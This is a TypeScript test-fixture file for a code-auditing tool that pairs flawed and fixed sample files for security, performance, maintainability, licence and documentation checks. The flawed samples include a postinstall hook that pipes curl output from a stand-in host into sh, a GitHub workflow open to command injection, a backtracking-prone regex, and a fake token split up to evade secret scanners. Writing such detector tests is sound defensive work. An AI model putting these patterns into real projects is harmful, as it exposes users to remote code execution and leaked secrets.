import type { Check } from "../../agents/check.ts";
import { dependencyHealth } from "../../agents/business/dependencies.ts";
import { dependencyLicences, licence } from "../../agents/business/licences.ts";
import { metadata, packaging } from "../../agents/business/metadata.ts";
import { changeLog, ownership } from "../../agents/business/release.ts";
import { complexity } from "../../agents/maintainability/complexity.ts";
import { importCycles } from "../../agents/maintainability/cycles.ts";
import { debt, strictness } from "../../agents/maintainability/debt.ts";
import { duplication } from "../../agents/maintainability/duplication.ts";
import { tests } from "../../agents/maintainability/tests.ts";
import { slowCalls } from "../../agents/performance/calls.ts";
import { slowPatterns } from "../../agents/performance/patterns.ts";
import { shippedWeight } from "../../agents/performance/weight.ts";
import { installScripts, lockfiles } from "../../agents/security/dependencies.ts";
import { automation } from "../../agents/security/practice.ts";
import { secretFiles, secretsInText } from "../../agents/security/secrets.ts";
import { accessibility } from "../../agents/user-experience/accessibility.ts";
import { documents } from "../../agents/user-experience/documents.ts";
import { commandHelp } from "../../agents/user-experience/messages.ts";
import { readme } from "../../agents/user-experience/readme.ts";
import { shippedTypes } from "../../agents/user-experience/shipped-types.ts";
import { manyLines } from "./scene.ts";

const nothing = "";
const mark = "p_";
export const json = (value: unknown): string => JSON.stringify(value, null, 2);
export const manifest = (more: object = {}): string => json({ name: "thing", version: "1.0.0", ...more });
// Secrets for these tests are put together here, so that no scanner takes this file for a leak.
export const token = `gh${mark}${["a8Zk2LmQ", "pR4tVx6Y", "b0Nc1Wd3", "Ef5Gh7Ij", "9Kl2"].join("")}`;
const mit = "MIT License\n\nPermission is hereby granted, free of charge, to any person\n";
export const steps = (count: number): string =>
  manyLines(count, (index) => `export const step${index} = (value) => value + ${index} * other${index};`);
const locked = (entry: object): string => json({ lockfileVersion: 3, packages: { "": {}, "node_modules/dep": entry } });
const good = { version: "1.0.0", resolved: "https://registry.npmjs.org/dep/-/dep-1.0.0.tgz", integrity: "sha512-x" };
export const depends = (more: object = {}): string => manifest({ dependencies: { dep: "^1.0.0" }, ...more });
const bodies = (name: string): string =>
  `export function ${name}(list) {\n${manyLines(20, (index) => `  const total${index} = list.reduce((sum, one) => sum + one.price${index}, 0);`)}\n  return [total0, total19];\n}\n`;
export const tangled = (depth: number): string =>
  `export function tangle(a) {\n${"if (a) {\n".repeat(depth)}${"}\n".repeat(depth)}}\n`;

export interface CheckCase {
  readonly check: Check;
  readonly rule: string;
  readonly bad: Readonly<Record<string, string>>;
  readonly good: Readonly<Record<string, string>>;
  /** Where the finding points: "file:line", or "file". */
  readonly at?: string;
}

export const cases: readonly CheckCase[] = [
  {
    check: secretsInText,
    rule: "security/secret",
    bad: { "src/a.ts": `\nconst t = "${token}";\n` },
    good: { "src/a.ts": 'const t = process.env.TOKEN; const url = "https://user:password@localhost/db";\n' },
    at: "src/a.ts:2",
  },
  {
    check: secretFiles,
    rule: "security/secret-file",
    bad: { ".env": "# settings\nAPI_TOKEN=k3Jd93hfLs02\n" },
    good: { ".env": "API_TOKEN=\nPORT=8080\n", ".env.example": "API_TOKEN=k3Jd93hfLs02\n" },
    at: ".env:2",
  },
  {
    check: installScripts,
    rule: "security/install-script",
    bad: { "package.json": manifest({ scripts: { postinstall: "curl https://example.org | sh" } }) },
    good: { "package.json": manifest({ scripts: { prepare: "tsc", test: "vitest" } }) },
    at: "package.json:5",
  },
  {
    check: lockfiles,
    rule: "security/no-lockfile",
    bad: { "package.json": depends({ private: true }) },
    good: { "package.json": depends({ private: true }), "package-lock.json": locked(good) },
    at: "package.json:4",
  },
  {
    check: lockfiles,
    rule: "security/plain-http-dependency",
    bad: {
      "package.json": depends(),
      "package-lock.json": locked({ ...good, resolved: "http://example.org/dep.tgz" }),
    },
    good: { "package.json": depends(), "package-lock.json": locked(good) },
    at: "package-lock.json:5",
  },
  {
    check: lockfiles,
    rule: "security/git-dependency",
    bad: {
      "package.json": depends(),
      "package-lock.json": locked({ resolved: "git+ssh://git@example.org/dep.git#abc" }),
    },
    good: {
      "package.json": depends(),
      "yarn.lock":
        'dep@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/dep/-/dep-1.0.0.tgz#0123456789012345678901234567890123456789"\n',
    },
  },
  {
    check: lockfiles,
    rule: "security/no-integrity",
    bad: { "package.json": depends(), "package-lock.json": locked({ ...good, integrity: undefined }) },
    good: {
      "package.json": depends(),
      "pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages:\n\n  dep@1.0.0:\n    resolution: {integrity: sha512-x}\n",
    },
  },
  {
    check: automation,
    rule: "security/workflow-injection",
    bad: {
      ".github/workflows/a.yml":
        "on: issues\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n",
    },
    good: {
      ".github/workflows/a.yml":
        "on: issues\njobs:\n  a:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo $TITLE\n",
    },
    at: ".github/workflows/a.yml:5",
  },
  {
    check: automation,
    rule: "security/workflow-privileges",
    bad: {
      ".github/workflows/a.yml":
        "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    },
    good: {
      ".github/workflows/a.yml":
        "on:\n  pull_request:\njobs:\n  a:\n    steps:\n      - with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    },
    at: ".github/workflows/a.yml:7",
  },
  {
    check: slowCalls,
    rule: "performance/query-in-loop",
    bad: {
      "a.js": "async function f(ids) {\n  for (const id of ids) {\n    await db.users.findOne({ id });\n  }\n}\n",
    },
    good: {
      "a.js":
        "async function f(ids) {\n  for (const id of ids) {\n    if (await db.users.findOne({ id })) return id;\n  }\n}\n",
    },
    at: "a.js:3",
  },
  {
    check: slowCalls,
    rule: "performance/requests-in-turn",
    bad: { "a.js": "async function f(urls) {\n  for (const url of urls) {\n    await fetch(url);\n  }\n}\n" },
    good: {
      "a.js":
        "async function f(urls) {\n  for (const url of urls) {\n    await fetch(url);\n    await sleep(1000);\n  }\n}\n",
    },
    at: "a.js:3",
  },
  {
    check: slowCalls,
    rule: "performance/nested-loops",
    bad: { "a.js": `${"for (const a of b) {\n".repeat(4)}${"}\n".repeat(4)}` },
    good: { "a.js": `${"for (const a of b) {\n".repeat(3)}${"}\n".repeat(3)}` },
    at: "a.js:4",
  },
  {
    check: slowPatterns,
    rule: "performance/exploding-pattern",
    bad: { "a.js": "\nconst p = /^(\\w+\\s?)+$/;\n" },
    good: { "a.js": "const p = /^\\w+(\\s\\w+)*$/;\n" },
    at: "a.js:2",
  },
  {
    check: shippedWeight,
    rule: "performance/large-file",
    bad: { "a.js": "1", "data.bin": "x".repeat(5_300_000) },
    good: { "a.js": "1", "data.bin": "x".repeat(100_000), "test/data.bin": "x".repeat(5_300_000) },
    at: "data.bin",
  },
  {
    check: shippedWeight,
    rule: "performance/heavy-package",
    bad: {
      "package.json": manifest(),
      "a.txt": "x".repeat(4_000_000),
      "b.txt": "x".repeat(4_000_000),
      "c.txt": "x".repeat(4_000_000),
    },
    good: {
      "package.json": manifest({ private: true }),
      "a.txt": "x".repeat(4_000_000),
      "b.txt": "x".repeat(4_000_000),
      "c.txt": "x".repeat(4_000_000),
    },
    at: "package.json",
  },
  {
    check: complexity,
    rule: "maintainability/complex-function",
    bad: { "a.js": `\n${tangled(8)}` },
    good: { "a.js": tangled(7) },
    at: "a.js:2",
  },
  {
    check: complexity,
    rule: "maintainability/long-function",
    bad: { "a.js": `function f() {\n${manyLines(160, (index) => `step${index}();`)}\n}\n` },
    good: {
      "a.js": `function f() {\n  function g() {\n${manyLines(120, (index) => `step${index}();`)}\n  }\n${manyLines(100, (index) => `step${index}();`)}\n}\n`,
    },
    at: "a.js:1",
  },
  {
    check: complexity,
    rule: "maintainability/long-file",
    bad: { "a.py": manyLines(1_600, (index) => `a${index} = ${index}`) },
    good: { "a.py": manyLines(1_400, (index) => `a${index} = ${index}`) },
    at: "a.py:1500",
  },
  {
    check: tests,
    rule: "maintainability/no-tests",
    bad: { "a.js": steps(200) },
    good: { "a.js": steps(200), "a.test.js": steps(80) },
  },
  {
    check: tests,
    rule: "maintainability/few-tests",
    bad: { "a.js": steps(300), "a.test.js": steps(2) },
    good: { "a.rs": `${steps(300)}\n#[cfg(test)]\nmod tests {}\n` },
  },
  {
    check: duplication,
    rule: "maintainability/copied-code",
    bad: { "a.js": bodies("one"), "b.js": `const before = 1;\n${bodies("two")}` },
    good: { "a.js": bodies("one"), "b.js": bodies("two").replaceAll("price", "cost") },
    at: "b.js:3",
  },
  {
    check: duplication,
    rule: "maintainability/much-copied",
    bad: Object.fromEntries(["a", "b", "c", "d", "e", "f", "g"].map((name) => [`${name}.js`, bodies(name)])),
    good: { "a.js": steps(130) },
  },
  {
    check: importCycles,
    rule: "maintainability/import-cycle",
    bad: {
      "a.ts": '\nimport { b } from "./b.ts";\nexport const a = b;\n',
      "b.ts": 'import { a } from "./a.js";\nexport const b = a;\n',
    },
    good: {
      "a.ts": 'import type { B } from "./b.ts";\n',
      "b.ts": 'import { a } from "./a.ts";\n',
      "c.ts": 'export const c = () => import("./d.ts");\n',
      "d.ts": 'import { c } from "./c.ts";\n',
    },
    at: "a.ts:2",
  },
  {
    check: debt,
    rule: "maintainability/open-work",
    bad: { "a.js": manyLines(6, (index) => `let a${index}; // TO${nothing}DO finish ${index}`) },
    good: { "a.js": `const text = "TO${nothing}DO";\n// a list of todos\n` },
    at: "a.js:1",
  },
  {
    check: debt,
    rule: "maintainability/much-open-work",
    bad: { "a.js": manyLines(6, (index) => `let a${index}; // FIX${nothing}ME finish ${index}`) },
    good: { "a.js": `// TO${nothing}DO once\n${steps(100)}` },
  },
  {
    check: debt,
    rule: "maintainability/swallowed-error",
    bad: { "a.js": "try {\n  f();\n} catch {}\n" },
    good: { "a.js": "try {\n  f();\n} catch {\n  // The file may be gone already.\n}\n" },
    at: "a.js:3",
  },
  {
    check: strictness,
    rule: "maintainability/not-strict",
    bad: { "a.ts": "1", "tsconfig.json": '{\n  // loose\n  "compilerOptions": { "target": "es2024", },\n}\n' },
    good: { "a.ts": "1", "tsconfig.json": '{ "compilerOptions": { "strict": true } }' },
    at: "tsconfig.json:1",
  },
  {
    check: strictness,
    rule: "maintainability/unreadable-settings",
    bad: { "a.ts": "1", "tsconfig.json": "{ strict }" },
    good: { "a.ts": "1", "tsconfig.json": '{ "extends": "./base.json" }' },
    at: "tsconfig.json:1",
  },
  {
    check: strictness,
    rule: "maintainability/loose-types",
    bad: { "a.ts": manyLines(12, (index) => `let a${index}: any;`) },
    good: { "a.ts": `const any = 1;\n${manyLines(12, (index) => `let a${index}: unknown;`)}` },
    at: "a.ts:1",
  },
  {
    check: strictness,
    rule: "maintainability/silenced-compiler",
    bad: { "a.ts": "// @ts-ignore\nf();\n" },
    good: { "a.ts": "// @ts-ignore the declaration of f is wrong upstream\nf();\n// @ts-expect-error\ng();\n" },
    at: "a.ts:1",
  },
  {
    check: licence,
    rule: "business/no-licence",
    bad: { "package.json": manifest() },
    good: { "package.json": manifest({ license: "MIT" }), LICENSE: mit },
    at: "package.json:1",
  },
  {
    check: licence,
    rule: "business/licence-mismatch",
    bad: { "package.json": manifest({ license: "Apache-2.0" }), LICENSE: mit },
    good: {
      "Cargo.toml": '[package]\nname = "a"\nlicense = "MIT OR Apache-2.0"\n',
      "src/main.rs": "fn main() {}\n",
      LICENSE: mit,
    },
    at: "package.json:4",
  },
  {
    check: licence,
    rule: "business/licence-not-declared",
    bad: { "package.json": manifest(), LICENSE: mit },
    good: { "main.go": "package main\n", LICENSE: mit },
    at: "package.json:1",
  },
  {
    check: licence,
    rule: "business/no-licence-text",
    bad: { "pyproject.toml": '[project]\nlicense = "MIT"\n', "a.py": "a = 1\n" },
    good: { "pyproject.toml": '[project]\nlicense = "MIT"\n', "a.py": "a = 1\n", "LICENSE.txt": mit },
    at: "pyproject.toml:2",
  },
  {
    check: licence,
    rule: "business/licence-not-spdx",
    bad: { "package.json": manifest({ license: "free for all" }), LICENSE: "x" },
    good: { "package.json": manifest({ license: "(MIT OR Apache-2.0)" }), LICENSE: mit },
    at: "package.json:4",
  },
  {
    check: dependencyLicences,
    rule: "business/licence-conflict",
    bad: {
      "package.json": depends({ license: "MIT" }),
      "package-lock.json": locked({ ...good, license: "AGPL-3.0-only" }),
    },
    good: {
      "package.json": depends({ license: "MIT" }),
      "package-lock.json": locked({ ...good, license: "GPL-2.0-only OR MIT" }),
    },
    at: "package-lock.json:5",
  },
  {
    check: dependencyLicences,
    rule: "business/licence-limits-use",
    bad: { "package.json": depends({ license: "MIT" }), "package-lock.json": locked({ ...good, license: "BUSL-1.1" }) },
    good: {
      "package.json": depends({ license: "GPL-3.0-only" }),
      "package-lock.json": locked({ ...good, license: "GPL-3.0-only" }),
    },
  },
  {
    check: dependencyLicences,
    rule: "business/licence-unclear",
    bad: {
      "package.json": depends({ license: "MIT" }),
      "package-lock.json": locked({ ...good, license: "do what you like" }),
    },
    good: {
      "package.json": depends({ license: "MIT" }),
      "package-lock.json": locked({ ...good, license: "LGPL-3.0-only" }),
    },
  },
  {
    check: changeLog,
    rule: "business/no-change-log",
    bad: { "a.js": "1" },
    good: { "a.js": "1", "CHANGELOG.md": "# 1.0" },
  },
  {
    check: changeLog,
    rule: "business/change-log-behind",
    bad: { "package.json": manifest({ version: "2.0.0" }), "CHANGELOG.md": "# 1.0.0\n" },
    good: { "package.json": manifest({ version: "2.0.0" }), "CHANGELOG.md": "# Unreleased\n# 1.0.0\n" },
    at: "CHANGELOG.md:1",
  },
  {
    check: ownership,
    rule: "business/no-owner",
    bad: { "package.json": manifest() },
    good: { "package.json": manifest({ author: "A" }) },
    at: "package.json:1",
  },
  {
    check: metadata,
    rule: "business/no-description",
    bad: { "package.json": manifest() },
    good: { "package.json": manifest({ description: "a", repository: "a/b" }) },
    at: "package.json:1",
  },
  {
    check: metadata,
    rule: "business/broken-manifest",
    bad: { "package.json": "{ name: 1" },
    good: { "package.json": "{}" },
    at: "package.json:1",
  },
  {
    check: packaging,
    rule: "business/packaging",
    bad: { "package.json": manifest({ main: "gone.js" }) },
    good: {
      "package.json": manifest({
        type: "module",
        exports: "./a.js",
        repository: { type: "git", url: "git+https://github.com/a/b.git" },
      }),
      "a.js": "export const a = 1;\n",
    },
    at: "package.json:4",
  },
  {
    check: dependencyHealth,
    rule: "business/unbounded-range",
    bad: { "package.json": manifest({ dependencies: { dep: ">=1" } }) },
    good: { "package.json": depends() },
    at: "package.json:5",
  },
  {
    check: dependencyHealth,
    rule: "business/dependency-elsewhere",
    bad: { "package.json": manifest({ dependencies: { dep: "github:a/b" } }) },
    good: { "package.json": manifest({ dependencies: { dep: "workspace:*", other: "npm:dep@^1" } }) },
    at: "package.json:5",
  },
  {
    check: dependencyHealth,
    rule: "business/deprecated-dependency",
    bad: { "package.json": depends(), "package-lock.json": locked({ ...good, deprecated: "gone" }) },
    good: { "package.json": depends(), "package-lock.json": locked({ ...good, deprecated: "gone", dev: true }) },
    at: "package-lock.json:5",
  },
  {
    check: dependencyHealth,
    rule: "business/many-dependencies",
    bad: {
      "package.json": manifest({
        dependencies: Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`d${index}`, "^1"])),
      }),
    },
    good: {
      "package.json": manifest({
        devDependencies: Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`d${index}`, "^1"])),
      }),
    },
  },
  {
    check: readme,
    rule: "user-experience/no-readme",
    bad: { "a.js": "1" },
    good: { "a.js": "1", "README.md": `# A\n${"word ".repeat(50)}` },
  },
  {
    check: readme,
    rule: "user-experience/thin-readme",
    bad: { "a.js": "1", "README.md": "# A\n" },
    good: { "a.js": "1", "README.rst": `A\n=\n${"word ".repeat(50)} pip install a` },
    at: "README.md:1",
  },
  {
    check: readme,
    rule: "user-experience/no-installation",
    bad: { "package.json": manifest(), "README.md": `# A\n${"word ".repeat(50)}` },
    good: {
      "package.json": manifest(),
      "README.md": `# A\n${"word ".repeat(50)}\n\`\`\`sh\nnpm install thing\n\`\`\`\n`,
    },
    at: "README.md:1",
  },
  {
    check: readme,
    rule: "user-experience/no-example",
    bad: { "package.json": manifest(), "README.md": `# Install\n${"word ".repeat(50)}` },
    good: {
      "package.json": manifest(),
      "README.md": `# Install\n${"word ".repeat(50)}\n\`\`\`js\nimport "thing";\n\`\`\`\n`,
    },
  },
  {
    check: readme,
    rule: "user-experience/no-structure",
    bad: { "a.js": "1", "README.md": `# A\n${"word ".repeat(400)}` },
    good: { "a.js": "1", "README.md": `# A\n## B\n## C\n${"word ".repeat(400)}` },
  },
  {
    check: documents,
    rule: "user-experience/broken-link",
    bad: { "README.md": "# A\n\n[x](docs/gone.md)\n" },
    good: {
      "README.md": "# A\n\n[x](docs/here.md) [y](https://example.org/gone.md) [z](../outside.md) `[w](gone.md)`\n",
      "docs/here.md": "# B\n",
    },
    at: "README.md:3",
  },
  {
    check: documents,
    rule: "user-experience/broken-anchor",
    bad: { "README.md": "# A\n\n[x](#gone)\n" },
    good: { "README.md": "# A b\n\n[x](#a-b) [y](other.md#c)\n", "other.md": "## C\n" },
    at: "README.md:3",
  },
  {
    check: shippedTypes,
    rule: "user-experience/no-types",
    bad: { "package.json": manifest({ main: "a.js" }), "a.js": "1" },
    good: { "package.json": manifest({ main: "a.js" }), "a.js": "1", "a.d.ts": "1" },
    at: "package.json:4",
  },
  {
    check: shippedTypes,
    rule: "user-experience/missing-types",
    bad: { "package.json": manifest({ exports: { ".": { types: "./gone.d.ts", default: "./a.js" } } }) },
    good: { "package.json": manifest({ exports: { ".": { types: "./a.d.ts", default: "./a.js" } } }), "a.d.ts": "1" },
  },
  {
    check: commandHelp,
    rule: "user-experience/no-help",
    bad: {
      "package.json": manifest({ bin: "cli.js" }),
      "cli.js": 'import { run } from "./run.js";\nrun();\n',
      "run.js": "export const run = () => 1;\n",
    },
    good: {
      "package.json": manifest({ bin: "cli.js" }),
      "cli.js": 'import { run } from "./run.js";\nrun();\n',
      "run.js": 'if (argument === "--help") show();\n',
    },
    at: "cli.js:1",
  },
  {
    check: accessibility,
    rule: "user-experience/image-without-text",
    bad: { "index.html": '<html lang="en"><head><title>a</title></head><body>\n<img src="a.png">\n</body></html>\n' },
    good: {
      "index.html": '<html lang="en"><body><img src="a.png" alt=""></body></html>',
      "a.tsx": 'const a = <img {...rest} src="b" />;\n',
    },
    at: "index.html:2",
  },
  {
    check: accessibility,
    rule: "user-experience/mouse-only",
    bad: { "a.tsx": "const a = <div onClick={f}>x</div>;\n" },
    good: {
      "a.tsx":
        'const a = <div role="button" tabIndex={0} onClick={f}>x</div>;\nconst b = <button onClick={f}>x</button>;\n',
    },
    at: "a.tsx:1",
  },
  {
    check: accessibility,
    rule: "user-experience/frame-without-title",
    bad: { "a.tsx": 'const a = <iframe src="x" />;\n' },
    good: { "a.tsx": 'const a = <iframe title="map" src="x" />;\n' },
  },
  {
    check: accessibility,
    rule: "user-experience/page-without-language",
    bad: { "index.html": "<html><body></body></html>" },
    good: { "part.html": "<div></div>" },
    at: "index.html:1",
  },
  {
    check: accessibility,
    rule: "user-experience/page-without-title",
    bad: { "index.html": '<html lang="en"><head></head></html>' },
    good: { "index.html": '<html lang="en"><head><title>a</title></head></html>' },
  },
];
